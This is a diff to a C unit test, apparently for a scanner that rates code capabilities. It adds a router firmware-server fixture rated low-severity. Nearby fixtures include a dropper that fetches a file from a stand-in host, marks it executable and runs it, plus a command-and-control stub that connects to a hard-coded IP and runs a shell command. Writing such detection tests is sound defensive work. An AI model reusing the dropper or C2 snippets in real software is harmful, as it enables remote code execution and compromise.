@@ -570,6 +570,14 @@ static void test_each_rule(void **state)
 		{ "dropper", "capability.download-execute",
 		  "int main(void){return system(\"wget http://upd.example.net/x -O /tmp/x; chmod +x /tmp/x; /tmp/x\");}",
 		  PST_SEV_HIGH },
+		/* a router's web server whose firmware upgrade page runs wget and
+		 * chmod: its job, low */
+		{ "fwhttpd", "capability.download-execute",
+		  "int main(void){char b[512];int s=socket(2,1,0),c;bind(s,0,0);listen(s,5);"
+		  "c=accept(s,0,0);read(c,b,512);if(strstr(b,\"multipart/form-data\"))"
+		  "system(\"wget -O /tmp/fw.bin http://192.168.1.2/fw.bin; chmod +x /tmp/fw.bin\");"
+		  "return dprintf(c,\"HTTP/1.1 200 OK\\r\\nContent-Type: text/html\\r\\n\\r\\n\");}",
+		  PST_SEV_LOW },
 		{ "c2", "capability.c2-endpoint",
 		  "int main(void){struct sockaddr_in a={0};int s=socket(2,1,0);a.sin_family=2;"
 		  "inet_pton(2,\"45.9.148.3\",&a.sin_addr);connect(s,(void*)&a,sizeof a);return system(\"uname -a\");}",
